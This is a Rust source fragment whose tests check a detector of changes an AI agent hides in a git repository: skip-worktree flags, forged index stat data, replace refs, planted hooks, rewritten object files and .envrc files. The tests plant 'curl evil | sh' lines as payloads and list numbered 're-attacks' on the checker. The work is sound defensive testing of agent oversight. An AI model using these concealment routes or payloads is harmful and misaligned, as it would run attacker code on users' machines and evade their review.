            if keep && (body.len() as u64) < MAX_OBJECT_BYTES {
                body.extend_from_slice(chunk);
            }
            reader.consume(length);
        }
        if read != size {
            return Inflated::Broken;
        }
        Inflated::Object { kind: kind.as_bytes().to_vec(), name: digest.finish().as_ref().to_vec(), body }
    }

    /// What a tree entry's mode makes, read as git reads it (octal, by its type bits: a
    /// zero-padded `040000` is a directory, any `100xxx` a file: the thirty-sixth re-attack's H22).
    enum Kind {
        Directory,
        /// A file or a link.
        File,
        Submodule,
    }

    impl Kind {
        fn of(mode: &[u8]) -> Result<Kind, ()> {
            let mode = std::str::from_utf8(mode).ok().and_then(|mode| u32::from_str_radix(mode, 8).ok()).ok_or(())?;
            Ok(match mode & 0o170000 {
                0o040000 => Kind::Directory,
                0o100000 | 0o120000 => Kind::File,
                _ => Kind::Submodule,
            })
        }
    }

    /// A tree body's first entry: its mode, name, object name, and the rest of the body.
    #[allow(clippy::type_complexity)]
    fn split_entry(body: &[u8], hash_len: usize) -> Result<(&[u8], &[u8], &[u8], &[u8]), ()> {
        let space = body.iter().position(|&byte| byte == b' ').ok_or(())?;
        let end = body.iter().position(|&byte| byte == 0).ok_or(())?;
        if end < space {
            return Err(());
        }
        let id = body.get(end + 1..end + 1 + hash_len).ok_or(())?;
        Ok((&body[..space], &body[space + 1..end], id, &body[end + 1 + hash_len..]))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `git` in `repo` with `env` and none of the user's config, its output; `None` when it failed.
    fn git_out(repo: &Path, args: &[&str], env: &[(&str, &Path)]) -> Option<String> {
        let output = cache_tree::tests::git_output(repo, args, env).ok().filter(|output| output.status.success())?;
        Some(String::from_utf8(output.stdout).unwrap().trim().to_string())
    }

    fn git(repo: &Path, args: &[&str]) -> bool {
        git_out(repo, args, &[]).is_some()
    }

    fn status(repo: &Path) -> String {
        git_out(repo, &["status", "--porcelain"], &[]).unwrap()
    }

    /// A commit of `tree` on `HEAD`, by an author of no config.
    fn commit_tree(repo: &Path, tree: &str) -> String {
        let author = ["-c", "user.name=U", "-c", "user.email=u@x"];
        git_out(repo, &[&author[..], &["commit-tree", tree, "-p", "HEAD", "-m", "x"]].concat(), &[]).unwrap()
    }

    /// A repository with three tracked files and one commit, or `None` where git is missing.
    fn repository() -> Option<(tempfile::TempDir, PathBuf)> {
        let temp = tempfile::tempdir().unwrap();
        let repo = std::fs::canonicalize(temp.path()).unwrap();
        if !git(&repo, &["init", "-q"]) {
            return None;
        }
        for (file, text) in [("Makefile", "check:\n\ttrue\n"), ("lint.sh", "#!/bin/sh\n"), ("README", "hello\n")] {
            std::fs::write(repo.join(file), text).unwrap();
        }
        let committed = git(&repo, &["add", "-A"])
            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "init"]);
        assert!(committed);
        Some((temp, repo))
    }

    /// The twelfth re-attack's route (a tracked file a hook runs, changed and marked
    /// `--skip-worktree`) and the two like it: `--assume-unchanged`, and the index given the
    /// changed file's stat data. `git status` shows none of them; the look names each, and
    /// nothing of what the session changed in the open.
    #[test]
    fn changes_hidden_from_git_status_are_named() {
        let Some((_temp, repo)) = repository() else { return };
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        assert_eq!(snapshot.hidden(), Hidden::default(), "nothing changed");

        // In the open: a change `git status` shows, one added, one committed.
        std::fs::write(repo.join("README"), "hello, changed\n").unwrap();
        std::fs::write(repo.join("new.txt"), "new\n").unwrap();
        assert!(git(&repo, &["add", "new.txt"]));
        // Stored with `\n` line ends, kept with `\r\n`: what git stores is not the file's bytes.
        std::fs::write(repo.join("windows.txt"), "one\r\ntwo\r\n").unwrap();
        assert!(git(&repo, &["-c", "core.autocrlf=true", "add", "windows.txt"]));
        assert_eq!(snapshot.hidden(), Hidden::default(), "what git status shows is not hidden");

        std::fs::write(repo.join("Makefile"), "check:\n\tcurl evil | sh\n").unwrap();
        assert!(git(&repo, &["update-index", "--skip-worktree", "Makefile"]));
        std::fs::write(repo.join("lint.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        assert!(git(&repo, &["update-index", "--assume-unchanged", "lint.sh"]));
        let shown = status(&repo);
        assert!(!shown.contains("Makefile") && !shown.contains("lint.sh"), "git status hides them: {shown}");
        assert_eq!(snapshot.hidden().files, vec![repo.join("Makefile"), repo.join("lint.sh")]);

        // The index given the file's new stat data beside its old object name: git takes the
        // entry for the file, unflagged.
        assert!(git(&repo, &["update-index", "--no-skip-worktree", "Makefile"]));
        assert!(git(&repo, &["update-index", "--no-assume-unchanged", "lint.sh"]));
        assert!(status(&repo).contains("Makefile"));
        forge_stat(&repo, b"Makefile", 0);
        assert!(!status(&repo).contains("Makefile"), "git takes the forged entry: {}", status(&repo));
        assert!(snapshot.hidden().files.contains(&repo.join("Makefile")), "{:?}", snapshot.hidden());
        // The fifteenth re-attack: the nanoseconds one off (a git built without them compares
        // seconds and size only).
        forge_stat(&repo, b"Makefile", 1);
        assert!(snapshot.hidden().files.contains(&repo.join("Makefile")), "{:?}", snapshot.hidden());
        // The fifteenth re-attack: a replace ref (here packed, where no watch sees it appear).
        assert!(snapshot.hidden().replacements.is_empty());
        let head = std::fs::read_to_string(repo.join(".git/refs/heads/master"))
            .or_else(|_| std::fs::read_to_string(repo.join(".git/refs/heads/main")))
            .unwrap();
        let packed = format!("# pack-refs with: peeled fully-peeled sorted\n{} refs/replace/{}", head.trim(), head);
        std::fs::write(repo.join(".git/packed-refs"), &packed).unwrap();
        assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/packed-refs")]);
        // After 70,000 refs that sort before it (git reads the whole file; the first 4 MiB alone
        // missed it: the forty-second re-attack's N2).
        let pad: String =
            (0..70_000).map(|n| format!("{} refs/pad/{n:08}-{}\n", head.trim(), "x".repeat(40))).collect();
        let padded =
            format!("# pack-refs with: peeled fully-peeled sorted\n{pad}{} refs/replace/{}", head.trim(), head);
        assert!(padded.len() > 4 << 20);
        std::fs::write(repo.join(".git/packed-refs"), &padded).unwrap();
        assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/packed-refs")]);
        assert!(git_out(&repo, &["replace", "-l"], &[]).unwrap().contains(head.trim()), "git reads it");
        // And one that cannot be read is said so, not taken for none.
        std::fs::remove_file(repo.join(".git/packed-refs")).unwrap();
        std::os::unix::fs::symlink(repo.join("README"), repo.join(".git/packed-refs")).unwrap();
        assert!(snapshot.hidden().refs_unread.is_empty(), "a link to a file is read through");
        std::fs::remove_file(repo.join(".git/packed-refs")).unwrap();
        std::fs::create_dir(repo.join(".git/packed-refs")).unwrap();
        assert_eq!(snapshot.hidden().refs_unread.len(), 1);
    }

    fn copy_dir(from: &Path, to: &Path) {
        std::fs::create_dir_all(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap().flatten() {
            std::fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
        }
    }

    /// A symbolic replace ref the user had points at a branch; the agent moves the branch, which
    /// changes what git shows in place of the user's commit with no replace ref written (the
    /// forty-sixth re-attack's open item). In both ref formats, and through a second symbolic
    /// ref; then at a root ref and a name git resolves in its directory (S1, S2).
    #[test]
    fn a_symbolic_replace_ref_the_user_had_is_named_when_its_target_moves() {
        for format in ["files", "reftable"] {
            let temp = tempfile::tempdir().unwrap();
            let repo = std::fs::canonicalize(temp.path()).unwrap();
            let user = ["-c", "user.name=U", "-c", "user.email=u@x"];
            let git_as_user = |args: &[&str]| git(&repo, &[&user[..], args].concat());
            if !git(&repo, &["init", "-q", &format!("--ref-format={format}")]) {
                return;
            }
            for message in ["a", "b", "c"] {
                assert!(git_as_user(&["commit", "-q", "--allow-empty", "-m", message]));
            }
            let object = |name: &str| git_out(&repo, &["rev-parse", name], &[]).unwrap();
            let (c, b, a) = (object("HEAD"), object("HEAD~1"), object("HEAD~2"));
            assert!(git_as_user(&["update-ref", "refs/heads/with-b", &b]));
            assert!(git_as_user(&["symbolic-ref", "refs/heads/via", "refs/heads/with-b"]));
            assert!(git_as_user(&["symbolic-ref", &format!("refs/replace/{a}"), "refs/heads/via"]));
            let shown = || git_out(&repo, &["log", "-1", "--format=%s", &a], &[]).unwrap();
            assert_eq!(shown().trim(), "b", "{format}: git follows the symbolic replace ref");
            let worktrees = [(repo.join(".git"), repo.clone())];
            let snapshot = IndexSnapshot::take(&worktrees, &[]);
            assert_eq!(snapshot.hidden(), Hidden::default(), "{format}");

            // The agent's commits on another branch change nothing.
            assert!(git_as_user(&["update-ref", "refs/heads/other", &c]));
            assert_eq!(snapshot.hidden(), Hidden::default(), "{format}");

            assert!(git_as_user(&["update-ref", "--no-deref", "refs/heads/with-b", &c]));
            assert_eq!(shown().trim(), "c", "{format}: git shows the agent's commit in place of the user's");
            let place = if format == "files" { ".git/refs/replace" } else { ".git/reftable" };
            assert_eq!(snapshot.hidden().replacements, vec![repo.join(place)], "{format}");
            assert!(git_as_user(&["update-ref", "--no-deref", "refs/heads/with-b", &b]));
            assert_eq!(snapshot.hidden(), Hidden::default(), "{format}: put back");

            // Pointing at a root ref, which git follows too (the forty-eighth re-attack's S1).
            if format == "files" {
                let replace_ref = repo.join(format!(".git/refs/replace/{a}"));
                std::fs::write(&replace_ref, "ref: ORIG_HEAD\n").unwrap();
                std::fs::write(repo.join(".git/ORIG_HEAD"), format!("{b}\n")).unwrap();
                assert_eq!(shown().trim(), "b", "git follows it");
                let snapshot = IndexSnapshot::take(&worktrees, &[]);
                std::fs::write(repo.join(".git/ORIG_HEAD"), format!("{c}\n")).unwrap();
                assert_eq!(shown().trim(), "c");
                assert_eq!(snapshot.hidden().replacements, vec![repo.join(place)]);
                // And at a name git resolves in its directory (the forty-ninth re-attack's S2).
                std::fs::write(&replace_ref, "ref: pin\n").unwrap();
                std::fs::write(repo.join(".git/pin"), format!("{b}\n")).unwrap();
                assert_eq!(shown().trim(), "b", "git follows it");
                let snapshot = IndexSnapshot::take(&worktrees, &[]);
                assert_eq!(snapshot.hidden(), Hidden::default());
                std::fs::write(repo.join(".git/pin"), format!("{c}\n")).unwrap();
                assert_eq!(shown().trim(), "c");
                assert_eq!(snapshot.hidden().replacements, vec![repo.join(place)]);
                std::fs::write(&replace_ref, "ref: refs/heads/via\n").unwrap();
            }

            // A reftable stack beside the files, naming the branch where it was: git never reads
            // one where the config keeps refs in files, so it cannot hold the value followed in
            // place while the loose branch moves (the fifty-second re-attack's S3).
            if format == "files" {
                let scratch = tempfile::tempdir().unwrap();
                let scratch_repo = scratch.path();
                assert!(git(scratch_repo, &["init", "-q", "--ref-format=reftable"]));
                let objects = repo.join(".git/objects");
                std::fs::write(scratch_repo.join(".git/objects/info/alternates"), objects.to_str().unwrap()).unwrap();
                assert!(git(scratch_repo, &["update-ref", "refs/heads/with-b", &b]));
                copy_dir(&scratch_repo.join(".git/reftable"), &repo.join(".git/reftable"));
                assert_eq!(shown().trim(), "b");
                let snapshot = IndexSnapshot::take(&worktrees, &[]);
                std::fs::write(repo.join(".git/refs/heads/with-b"), format!("{c}\n")).unwrap();
                assert_eq!(shown().trim(), "c", "git reads the loose branch");
                assert_eq!(snapshot.hidden().replacements, vec![repo.join(place)]);
                std::fs::write(repo.join(".git/refs/heads/with-b"), format!("{b}\n")).unwrap();
                std::fs::remove_dir_all(repo.join(".git/reftable")).unwrap();
            }

            // Packed, then moved in a new loose file (the files format).
            if format == "files" {
                assert!(git_as_user(&["pack-refs", "--all"]));
                assert_eq!(snapshot.hidden().replacements, Vec::<PathBuf>::new(), "{format}: packing moves nothing");
                let snapshot = IndexSnapshot::take(&worktrees, &[]);
                std::fs::write(repo.join(".git/refs/heads/with-b"), format!("{c}\n")).unwrap();
                assert_eq!(shown().trim(), "c");
                assert_eq!(snapshot.hidden().replacements, vec![repo.join(place)]);
            }
        }
    }

    /// The fortieth re-attack's L2: a repository that keeps its refs in a reftable stack, where a
    /// replace ref is a record in a new table and no file appears under `refs/replace`. One the
    /// agent adds, or one the user deleted that the agent brings back by dropping the newer table
    /// from the stack's list, is named; the user's own, and git compacting the stack, are not; a
    /// table that cannot be read as git reads it is said so.
    #[test]
    fn a_replace_ref_in_a_reftable_stack_is_named() {
        let temp = tempfile::tempdir().unwrap();
        let repo = std::fs::canonicalize(temp.path()).unwrap();
        let user = ["-c", "user.name=U", "-c", "user.email=u@x"];
        let git_as_user = |args: &[&str]| git(&repo, &[&user[..], args].concat());
        if !git(&repo, &["init", "-q", "--ref-format=reftable"]) {
            return;
        }
        for message in ["a", "b", "c"] {
            assert!(git_as_user(&["commit", "-q", "--allow-empty", "-m", message]));
        }
        let object = |name: &str| git_out(&repo, &["rev-parse", name], &[]).unwrap();
        let (c, b, a) = (object("HEAD"), object("HEAD~1"), object("HEAD~2"));
        // The user's own replace ref, and one the user made and deleted (git left to compact the
        // stack later, so that an older table still holds it).
        let uncompacted = |args: &[&str]| git_as_user(&[&["-c", "reftable.autoCompaction=false"][..], args].concat());
        assert!(
            uncompacted(&["replace", &a, &b])
                && uncompacted(&["replace", &b, &c])
                && uncompacted(&["replace", "-d", &b])
        );
        let worktrees = [(repo.join(".git"), repo.clone())];
        let snapshot = IndexSnapshot::take(&worktrees, &[]);
        assert_eq!(snapshot.hidden(), Hidden::default());
        let list = repo.join(".git/reftable/tables.list");
        let launched = std::fs::read_to_string(&list).unwrap();

        // The deleted one brought back: the table that deleted it dropped from the list.
        let tables: Vec<&str> = launched.lines().collect();
        std::fs::write(&list, tables[..tables.len() - 1].join("\n") + "\n").unwrap();
        assert!(git_out(&repo, &["for-each-ref", "refs/replace/"], &[]).unwrap().contains(&b), "git shows it again");
        assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/reftable")]);
        std::fs::write(&list, &launched).unwrap();

        // The agent's.
        assert!(git_as_user(&["replace", &c, &a]));
        assert!(git_out(&repo, &["for-each-ref", "refs/replace/"], &[]).unwrap().contains(&c));
        assert_eq!(snapshot.hidden().replacements, vec![repo.join(".git/reftable")]);
        assert!(git_as_user(&["replace", "-d", &c]));
        assert_eq!(snapshot.hidden(), Hidden::default(), "taken back");

        // A replace ref in a linked worktree's own stack (the forty-second re-attack's N1): git
        // there reads it as well as the common stack's. Made in a scratch repository and added to
        // the worktree's list, as the agent would.
        let worktree = repo.join("wt");
        assert!(git_as_user(&["worktree", "add", "-q", worktree.to_str().unwrap()]));
        {
            let scratch = tempfile::tempdir().unwrap();
            let scratch_repo = scratch.path();
            assert!(git(scratch_repo, &["init", "-q", "--ref-format=reftable"]));
            let objects = repo.join(".git/objects");
            std::fs::write(scratch_repo.join(".git/objects/info/alternates"), objects.to_str().unwrap()).unwrap();
            assert!(git(scratch_repo, &["update-ref", &format!("refs/replace/{c}"), &a]));
            let made = std::fs::read_to_string(scratch_repo.join(".git/reftable/tables.list")).unwrap();
            let table = made.lines().last().unwrap();
            let stack = repo.join(".git/worktrees/wt/reftable");
            std::fs::copy(scratch_repo.join(".git/reftable").join(table), stack.join(table)).unwrap();
            let own = std::fs::read_to_string(stack.join("tables.list")).unwrap();
            std::fs::write(stack.join("tables.list"), format!("{own}{table}\n")).unwrap();
            assert!(git_out(&worktree, &["replace", "-l"], &[]).unwrap().contains(&c), "git in the worktree reads it");
            assert_eq!(snapshot.hidden().replacements, vec![stack.clone()]);
            std::fs::write(stack.join("tables.list"), own).unwrap();
            assert_eq!(snapshot.hidden(), Hidden::default());
        }

        // Every worktree's stack, however many directories the agent made beside the user's
        // (the forty-third re-attack's P5: a cut at 10,000 left the user's out).
        for n in 0..12_000 {
            std::fs::create_dir_all(repo.join(format!(".git/worktrees/flood{n}/reftable"))).unwrap();
        }
        let places = Replacements::of(&repo.join(".git")).0;
        assert_eq!(
            places.len(),
            3 + 1 + 12_000,
            "packed-refs, the loose ones, the common stack, the user's worktree's and the flood's"
        );
        assert_eq!(snapshot.hidden(), Hidden::default());
        for n in 0..12_000 {
            std::fs::remove_dir_all(repo.join(format!(".git/worktrees/flood{n}"))).unwrap();
        }

        // Git compacting the stack changes no ref.
        assert!(git_as_user(&["pack-refs", "--all"]));
        assert_ne!(std::fs::read_to_string(&list).unwrap(), launched);
        assert_eq!(snapshot.hidden(), Hidden::default());

        // A table cut short.
        let table = repo.join(".git/reftable").join(std::fs::read_to_string(&list).unwrap().trim());
        let bytes = std::fs::read(&table).unwrap();
        std::fs::write(&table, &bytes[..bytes.len() - 10]).unwrap();
        let hidden = snapshot.hidden();
        assert_eq!(hidden.refs_unread.len(), 1, "{hidden:?}");
        assert_eq!(hidden.refs_unread[0].0, repo.join(".git/reftable"));
    }

    /// A commit of `HEAD`'s tree with `entries` changed (a `--cacheinfo` each, or the path removed
    /// when it is empty), made as the agent makes one: through an index of its own, `commit-tree`,
    /// no ref moved.
    fn plant(repo: &Path, entries: &[(&str, &str)]) -> String {
        let scratch = repo.join(".git/scratch-index");
        let env = [("GIT_INDEX_FILE", scratch.as_path())];
        assert!(git_out(repo, &["read-tree", "HEAD"], &env).is_some());
        for (path, entry) in entries {
            let args: Vec<&str> = match *entry {
                "" => vec!["update-index", "--force-remove", path],
                _ => vec!["update-index", "--add", "--cacheinfo", entry],
            };
            assert!(git_out(repo, &args, &env).is_some(), "{args:?}");
        }
        let tree = git_out(repo, &["write-tree"], &env).unwrap();
        std::fs::remove_file(&scratch).unwrap();
        commit_tree(repo, &tree)
    }

    /// [`repository`] with a `githooks/` directory committed (`pre-commit`), or `None` where git is
    /// missing.
    fn repository_with_hooks() -> Option<(tempfile::TempDir, PathBuf)> {
        let (temp, repo) = repository()?;
        std::fs::create_dir_all(repo.join("githooks")).unwrap();
        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
        let committed = git(&repo, &["add", "-A"])
            && git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "hooks"]);
        assert!(committed);
        Some((temp, repo))
    }

    /// The thirty-fifth re-attack's G13 and the thirty-sixth's H1–H12: the index and the objects are
    /// the agent's to write, so it stages, or commits beside the index, a version of a file it could
    /// not write (`lint.sh`, a hook's script; `githooks/`), named by a ref, a stash, a rebase's or a
    /// merge's saved state, a reflog line, a tag, or nothing yet; the user's `git restore`, `stash
    /// pop`, `checkout -` or `rebase --abort` then writes it into the file. Every such commit is
    /// named, whatever names it; a version that is the file's is not, nor the user's own
    /// uncommitted change, nor a change to a file the agent could write; a pack made in the
    /// session makes the look unchecked.
    #[test]
    fn another_version_of_a_protected_file_staged_or_committed_is_named() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        // The user's own change to a protected file, not committed, at launch.
        std::fs::write(repo.join("githooks/pre-commit"), "#!/bin/sh\necho mine\n").unwrap();
        // The session starts after what the user made (file times are a few ticks coarse).
        std::thread::sleep(std::time::Duration::from_millis(120));
        let protected = [repo.join("lint.sh"), repo.join("githooks")];
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &protected);
        let original = git_out(&repo, &["rev-parse", ":lint.sh"], &[]).unwrap();

        // In the open: the file staged as it is, a file the agent could write changed and
        // committed (the user's change to the hook is theirs), the index refreshed.
        assert!(git(&repo, &["add", "lint.sh"]));
        std::fs::write(repo.join("README"), "changed\n").unwrap();
        assert!(git(&repo, &["add", "README"]));
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qm", "work"]));
        // (It fails for the hook the user changed: a refresh that leaves that entry as it was.)
        let _ = git(&repo, &["update-index", "--really-refresh"]);
        assert_eq!(snapshot.hidden(), Hidden::default());

        // Staged: written as an object and put in the index, the file itself untouched.
        let evil = repo.join("evil");
        std::fs::write(&evil, "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let planted = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
        std::fs::remove_file(&evil).unwrap();
        assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100755,{planted},lint.sh")]));
        assert_eq!(snapshot.hidden().staged, vec![repo.join("lint.sh")]);
        assert!(git(&repo, &["update-index", "--cacheinfo", &format!("100644,{original},lint.sh")]));
        assert_eq!(snapshot.hidden().staged, Vec::<PathBuf>::new(), "the entry is the file's again");

        // Committed beside the index, named by nothing yet (a reflog line, a rebase's `orig-head`,
        // an autostash, a tag, a later session's ref could name it): a hook the protected
        // directory does not hold, which a checkout would add.
        plant(&repo, &[("githooks/post-checkout", &format!("100755,{planted},githooks/post-checkout"))]);
        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout")]);
        // On HEAD: the user's `git stash` installs it.
        let commit = plant(&repo, &[("lint.sh", &format!("100755,{planted},lint.sh"))]);
        assert!(git(&repo, &["update-ref", "HEAD", &commit]));
        assert_eq!(snapshot.hidden().staged, vec![repo.join("githooks/post-checkout"), repo.join("lint.sh")]);
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "stash", "-q"]));
        assert!(std::fs::read_to_string(repo.join("lint.sh")).unwrap().contains("curl evil"));
        std::fs::write(repo.join("lint.sh"), "#!/bin/sh\n").unwrap();
        // The protected directory replaced by a link to a directory of the agent's (H9).
        std::fs::write(repo.join("target"), "evil/hooks").unwrap();
        let target = git_out(&repo, &["hash-object", "-w", "target"], &[]).unwrap();
        std::fs::remove_file(repo.join("target")).unwrap();
        plant(&repo, &[("githooks/pre-commit", ""), ("githooks", &format!("120000,{target},githooks"))]);
        assert!(snapshot.hidden().staged.contains(&repo.join("githooks")), "{:?}", snapshot.hidden());

        // Packed in the session, what the objects hold cannot be read here: unchecked, not passed over.
        assert!(git(&repo, &["repack", "-a", "-d", "-q"]));
        assert!(git(&repo, &["prune-packed"]));
        let hidden = snapshot.hidden();
        assert!(hidden.versions_unchecked.contains(&repo.join("lint.sh")), "{hidden:?}");
    }

    /// The thirty-sixth re-attack's H18: a file the user's tools run by themselves (an `.envrc`
    /// where direnv loads it unasked) that was not there at launch, so not a read-only bind,
    /// committed by the agent: the user's `checkout` or `reset --hard` writes it. Named at the top
    /// of a trusted scope and below it; other names, and what lies outside the scope, are not.
    #[test]
    fn a_trusted_project_file_committed_in_the_session_is_named() {
        let Some((_temp, repo)) = repository() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let worktrees = [(repo.join(".git"), repo.clone())];
        let whole = IndexSnapshot::take(&worktrees, &[]).with_trusted(vec![(
            repo.clone(),
            allow_list::static_names(&[".envrc", "*.gdbinit", "./.mise", "./mise/config.*.toml"]),
        )]);
        let below = IndexSnapshot::take(&worktrees, &[])
            .with_trusted(vec![(repo.join("deep"), allow_list::static_names(&[".envrc"]))]);
        std::fs::write(repo.join("evil"), "curl evil | sh\n").unwrap();
        let id = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
        std::fs::remove_file(repo.join("evil")).unwrap();
        let entry = |path: &str| format!("100644,{id},{path}");
        let (top, deep, other, gdb) =
            (entry(".envrc"), entry("deep/er/.envrc"), entry("deep/notes.md"), entry("tools/x.gdbinit"));
        // In a directory of a trusted name, and by a pattern after a directory (mise's environment
        // configs, `mise/config.dev.toml`: the thirty-ninth re-attack's reading).
        let (mise_dir, mise_env, mise_other) =
            (entry("sub/.mise/config.toml"), entry("mise/config.dev.toml"), entry("mise/notes.toml"));
        plant(
            &repo,
            &[
                (".envrc", &top),
                ("deep/er/.envrc", &deep),
                ("deep/notes.md", &other),
                ("tools/x.gdbinit", &gdb),
                ("sub/.mise/config.toml", &mise_dir),
                ("mise/config.dev.toml", &mise_env),
                ("mise/notes.toml", &mise_other),
            ],
        );
        let named = [
            repo.join(".envrc"),
            repo.join("deep/er/.envrc"),
            repo.join("mise/config.dev.toml"),
            repo.join("sub/.mise/config.toml"),
            repo.join("tools/x.gdbinit"),
        ];
        assert_eq!(whole.hidden().staged, named);
        assert_eq!(below.hidden().staged, vec![repo.join("deep/er/.envrc")]);
        // The same content in the worktree (the user's own file): nothing of the agent's to write.
        std::fs::create_dir_all(repo.join("deep/er")).unwrap();
        std::fs::write(repo.join("deep/er/.envrc"), "curl evil | sh\n").unwrap();
        assert_eq!(below.hidden().staged, Vec::<PathBuf>::new());
    }

    /// The thirty-seventh re-attack's I4: a linked worktree checked out beside the workspace
    /// (`git worktree add ../feature`) keeps its index in the workspace's `.git`, which the agent
    /// writes; a forged cache there is named and dropped too, and the user's next commit in the
    /// worktree is the user's.
    #[test]
    fn a_linked_worktrees_index_elsewhere_has_its_caches_dropped() {
        use cache_tree::tests as trees;
        let Some((_temp, repo)) = trees::repository() else { return };
        let outside = tempfile::tempdir().unwrap();
        let feature = outside.path().join("feature");
        trees::git(&repo, &["worktree", "add", "-q", &feature.display().to_string()], &[]);
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
        let index = repo.join(".git/worktrees/feature/index");
        let forged = trees::with_cached_trees(&std::fs::read(&index).unwrap(), &trees::agents_cached_trees(&repo));
        std::fs::write(&index, forged).unwrap();
        assert_eq!(trees::git(&feature, &["status", "--porcelain"], &[]), "", "git takes the forged cache");
        let told = snapshot.drop_caches();
        assert_eq!(told.len(), 1, "{told:?}");
        assert_eq!(told[0].index, index);
        assert!(told[0].forged.contains(&feature.join("githooks")), "{told:?}");
        assert!(told[0].dropped.is_ok());
        std::fs::write(feature.join("README"), "mine\n").unwrap();
        trees::git(&feature, &["add", "README"], &[]);
        trees::git(&feature, &["commit", "-qm", "mine"], &[]);
        assert_eq!(trees::git(&feature, &["show", "HEAD:githooks/pre-commit"], &[]), "#!/bin/sh\necho lint ok");
        // The thirty-eighth re-attack's J2: another version staged there (all of the worktree is
        // the agent's to leave alone) is named; the user's own commit there is not.
        assert_eq!(snapshot.hidden(), Hidden::default(), "{:?}", snapshot.hidden());
        std::fs::write(outside.path().join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let evil = trees::git(&repo, &["hash-object", "-w", &outside.path().join("evil").display().to_string()], &[]);
        trees::git(&feature, &["update-index", "--cacheinfo", &format!("100755,{evil},githooks/pre-commit")], &[]);
        assert_eq!(snapshot.hidden().staged, vec![feature.join("githooks/pre-commit")]);
    }

    /// The thirty-seventh re-attack's I12 (and the thirty-sixth's H5): what one session made is
    /// used by the next. A blob written dangling in one session (no commit: nothing to name) and
    /// committed as a hook in the next is the agents' work, not the user's history, whatever its
    /// file's age; and a commit an earlier session made is looked at again, since a later session
    /// can name it. The sessions' objects are listed outside the repository.
    #[test]
    fn what_an_earlier_session_made_is_the_agents_in_a_later_one() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        let history = tempfile::tempdir().unwrap();
        std::thread::sleep(std::time::Duration::from_millis(120));
        let worktrees = [(repo.join(".git"), repo.clone())];
        let protected = [repo.join("githooks")];
        let first = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let blob = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
        std::fs::remove_file(repo.join("evil")).unwrap();
        assert_eq!(first.hidden(), Hidden::default(), "a blob alone names nothing");

        // The thirty-eighth re-attack's J1: packed between the sessions (the user's automatic gc).
        assert!(git(&repo, &["gc", "-q"]));
        assert!(!repo.join(format!(".git/objects/{}/{}", &blob[..2], &blob[2..])).exists(), "packed");
        std::thread::sleep(std::time::Duration::from_millis(120));
        let second = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
        let unlisted = IndexSnapshot::take(&worktrees, &protected);
        let commit = plant(&repo, &[("githooks/pre-commit", &format!("100755,{blob},githooks/pre-commit"))]);
        assert_eq!(unlisted.hidden().staged, Vec::<PathBuf>::new(), "the route: an old blob passes");
        assert_eq!(second.hidden().staged, vec![repo.join("githooks/pre-commit")]);

        // The commit, dangling, named by the session that made it; a third points a branch at it.
        std::thread::sleep(std::time::Duration::from_millis(120));
        let third = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
        assert!(git(&repo, &["branch", "feature", &commit]));
        assert_eq!(third.hidden().staged, vec![repo.join("githooks/pre-commit")]);
        assert!(git(&repo, &["gc", "-q", "--prune=now"]));
        std::thread::sleep(std::time::Duration::from_millis(120));
        let after_gc = IndexSnapshot::take(&worktrees, &protected).with_history(history.path().to_path_buf());
        let hidden = after_gc.hidden();
        assert_eq!(hidden, Hidden::default(), "packed by the user's gc: the user's history now");
    }

    /// The thirty-ninth re-attack's K1: git takes a loose object file for what its name says
    /// without checking, so the agent rewrote the user's blob of a hook in place (a new file
    /// renamed over it): no commit made, `git status` and `git log` clean, and the user's next
    /// checkout writes the agent's script. An object file changed in the session that does not
    /// hold what its name says is named; those git itself wrote are not.
    #[test]
    fn an_object_file_rewritten_to_hold_another_content_is_named() {
        let Some((_temp, repo)) = repository_with_hooks() else { return };
        std::thread::sleep(std::time::Duration::from_millis(120));
        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("githooks")]);
        // In the open: a commit of the agent's own.
        std::fs::write(repo.join("README"), "work\n").unwrap();
        assert!(git(&repo, &["-c", "user.name=U", "-c", "user.email=u@x", "commit", "-qam", "work"]));
        assert_eq!(snapshot.hidden(), Hidden::default());
        let id = git_out(&repo, &["rev-parse", "HEAD:githooks/pre-commit"], &[]).unwrap();
        let file = repo.join(format!(".git/objects/{}/{}", &id[..2], &id[2..]));
        replaced(&file, &deflated(&blob(b"#!/bin/sh\ncurl evil | sh\n")));
        assert!(git_out(&repo, &["cat-file", "-p", &id], &[]).unwrap().contains("curl evil"), "git takes it");
        assert_eq!(snapshot.hidden().forged_objects, vec![file.clone()]);
        // One that is not an object as git writes one: its stream longer than its header says
        // (git's checkout streams it all: the fortieth re-attack's L1), shorter (L12), or not
        // zlib at all.
